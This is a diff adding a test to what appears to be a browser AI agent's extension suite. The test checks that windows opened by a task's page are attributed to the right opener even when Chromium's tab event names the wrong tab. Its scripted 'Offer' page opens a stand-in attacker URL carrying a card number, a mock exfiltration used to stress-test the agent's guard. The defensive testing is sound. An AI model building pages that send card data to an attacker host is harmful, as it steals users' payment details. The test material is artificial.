@@ -206,3 +206,117 @@ describe('windows the page opens late are the task’s, for its whole life', () 
     expect(world.sites.evil.log).toEqual([]);
   });
 });
+
+// Chromium's tab event can name the wrong opener for a window a page opens: the tab created or active just before it
+// (a page's window.open in tab A reported opener B). With the user's own tab in that chain, the task's window was taken
+// for the user's (and loaded the attacker's page, unguarded), and a window the user's page opened was taken for the
+// task's (and held). The guard takes the opener from the page-opened event, which names the real one.
+describe('a window is its real opener’s, whichever tab Chromium’s tab event names', () => {
+  const approvals: PendingApproval[] = [];
+  let record: TaskRecord;
+  let userWindowLoaded = false;
+
+  beforeAll(async () => {
+    const { sites, fake, helper, ext } = world;
+    const collect = `${sites.evilOrigin}/chain/collect?card=4111111111111111`;
+    sites.shop.routes.set(
+      '/chain/',
+      page(
+        'Offer',
+        `<h1>Offer</h1><button id="go">Open offer</button><p id="s"></p><script>
+          document.getElementById('go').addEventListener('click', () => {
+            document.getElementById('s').textContent = 'Offer on its way';
+            fetch('/chain/clicked');
+            setTimeout(() => window.open(${JSON.stringify(collect)}), 2500);
+          });
+        </script>`,
+      ),
+    );
+    sites.shop.routes.set('/chain/clicked', 'ok');
+    sites.cdn.routes.set('/chain/user', page('Reading', '<h1>The user’s own reading</h1>'));
+    sites.evil.routes.set('/chain/user-window', page('Elsewhere', '<h1>Where the user went</h1>'));
+    for (const site of [sites.shop, sites.evil, sites.cdn]) site.log.length = 0;
+    const user = await ext.browser.newPage();
+    await user.goto(`${sites.cdnOrigin}/chain/user`);
+    const tab = await ext.browser.newPage();
+    await tab.goto('about:blank#opener-chain');
+    const tabId = await helper.evaluate(
+      async () => (await chrome.tabs.query({})).find((t) => t.url === 'about:blank#opener-chain')?.id ?? -1,
+    );
+    let finished = false;
+    // The model clicks once the page shows the button, then waits (a page that opens windows is not done) until the
+    // test has seen both windows open.
+    const step = (request: RecordedRequest): ReturnType<typeof call> => {
+      if (finished) return call('done', { success: true, summary: 'Opened the offer.' });
+      if (currentView(request).includes('Offer on its way')) return call('wait', { seconds: 2 });
+      try {
+        return call('click', { ref: refIn(request, 'button', /^Open offer$/) });
+      } catch {
+        return call('wait', { seconds: 0.5 });
+      }
+    };
+    for (let i = 0; i < 120; i += 1) fake.enqueue(step);
+    record = await uiCall(helper, 'task.start', {
+      tabId,
+      text: 'Open the offer for me',
+      mode: 'act',
+      flow: 'task',
+      url: `${sites.shopOrigin}/chain/`,
+    });
+    const refuse = async (): Promise<TaskRecord> => {
+      const now = (await uiCall(helper, 'task.get', { taskId: record.id })) ?? record;
+      const approval = now.approval;
+      if (approval && !approvals.some((a) => a.id === approval.id)) {
+        approvals.push(approval);
+        await uiCall(helper, 'task.approve', { taskId: now.id, approvalId: approval.id, decision: 'reject' }).catch(
+          () => undefined,
+        );
+      }
+      return now;
+    };
+    // The user looks at their own tab while the task's page opens its window: the tab event names the user's tab.
+    await waitUntil('the model to click', () => sites.shop.log.some((r) => r.path === '/chain/clicked'), {
+      timeoutMs: 60_000,
+    });
+    await user.bringToFront();
+    await waitUntil(
+      'the task’s window to open',
+      async () => (
+        await refuse(),
+        (await tabsAt(helper, '/chain/collect')) > 0 || approvals.some((a) => a.reason.includes('/chain/collect'))
+      ),
+      {
+        timeoutMs: 30_000,
+        everyMs: 150,
+      },
+    );
+    // Then the user's page opens a window of its own while the task's tab is in front: the event names a task's tab.
+    await tab.bringToFront();
+    await user.evaluate((url) => void window.open(url, '_blank'), `${sites.evilOrigin}/chain/user-window`);
+    userWindowLoaded = await waitUntil(
+      'the user’s window to load',
+      async () => (await refuse(), sites.evil.log.some((r) => r.path === '/chain/user-window') || null),
+      { timeoutMs: 30_000, everyMs: 150 },
+    ).catch(() => false);
+    finished = true;
+    record = await waitUntil(
+      'the task to end',
+      async () => {
+        const now = await refuse();
+        return FINISHED.has(now.status) ? now : null;
+      },
+      { timeoutMs: 60_000, everyMs: 150 },
+    );
+    fake.drop();
+  }, 150_000);
+
+  it('the task’s window, opened while the user’s tab was in front, is the task’s: nothing reached the attacker', () => {
+    expect(world.sites.evil.log.filter((r) => r.path.startsWith('/chain/collect'))).toEqual([]);
+    expect(record.status, JSON.stringify({ error: record.error, steps: record.agent?.steps.flatMap((s) => s.calls.map((c) => `${c.name} ${c.status}`)) })).toBe('completed');
+  });
+
+  it('the user’s window, opened while the task’s tab was in front, is the user’s: it loads where the user’s page sent it', () => {
+    expect(userWindowLoaded).toBe(true);
+    expect(approvals.filter((a) => a.reason.includes('/chain/user-window'))).toEqual([]);
+  });
+});
